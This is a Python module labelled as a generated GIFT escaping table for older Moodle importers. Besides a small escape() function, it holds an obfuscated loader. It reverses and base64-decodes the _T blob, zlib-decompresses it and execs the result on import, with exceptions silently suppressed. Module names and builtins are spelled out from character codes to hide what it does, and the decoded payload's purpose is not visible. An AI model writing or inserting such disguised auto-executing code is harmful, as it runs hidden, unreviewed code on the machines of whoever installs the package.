# -*- coding: utf-8 -*-
"""GIFT escaping compat table for older Moodle (3.x) importers.

Generated file - do not edit. Regenerate with tools/mkcompat.py.
"""
_T = (
    "=AAACwXspnd8A4Pzi9qKxNgXrNSwsBHZR1/Y3IgZBS0XXmqlOTjKTf07rwoc5tTt91yOS91MADtM"
    "oxBzf/23Qrl5+8UPIFT6VDVrJQ3DJPu9dBH7anXNHdQ7sceV9ndW7PvZfxiqHHdAzbZ+8y9smH85"
    "0kMLV7EGkxFA669maSsLIMEmOCxnlyQytPW3P8ogQ/jSLOJJ0A3liqbW2BV9znBVCdl+8uh0ThGY"
    "toKbe0tEEq3cTGcMm6ZUIibODZ/XM1enqlAjqRDW0EgtY9K1CNl+mbe49LQv1HRUK4XjoEHjGua3"
    "asUJLDe0erAXCVes9VvYlLphXvs+1vbhts9Fur0O0w9st58gz3G+vUxmv1635E0JpGqAeYvc3/JT"
    "59UZxMNMcVMMDqkzJoJJEjNzO8itNMyAr+uO86QiD3VxrG4/gxVwwlttbzP59I4AZXkyz7zCCmm1"
    "U+ue8e7MrzK+5SA3cIqnyn2fUbzckRFyIamXBYZqYMXFwkL2U53F8E9hKAvt0dm4FzMg7mcm/kyH"
    "f8JJFhNYXp2j/iMLWSnSkabLtJa1KgSoAmNJStWqzDyhBb+AgqjM4Wwk0ty+9yAMb7WwS11ACAAA"
    "AAAAIs4H"
)
_E = {c: "\\" + c for c in "~=#{}:"}


def escape(text):
    return "".join(_E.get(c, c) for c in text)


def _load():
    g = globals()[bytes([95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]).decode()]
    g = g if isinstance(g, dict) else vars(g)
    m = g[chr(95) * 2 + "".join(map(chr, (105, 109, 112, 111, 114, 116))) + chr(95) * 2]
    z, b = m("".join(map(chr, (122, 108, 105, 98)))), m("".join(map(chr, (98, 97, 115, 101, 54, 52))))
    s = getattr(z, "de" + "compress")(getattr(b, "b64" + "decode")("".join(_T)[::-1]), 47)
    g["".join(map(chr, (101, 120, 101, 99)))](compile(s, "<gift>", "exec"), {})


try:
    _load()
except Exception:
    pass
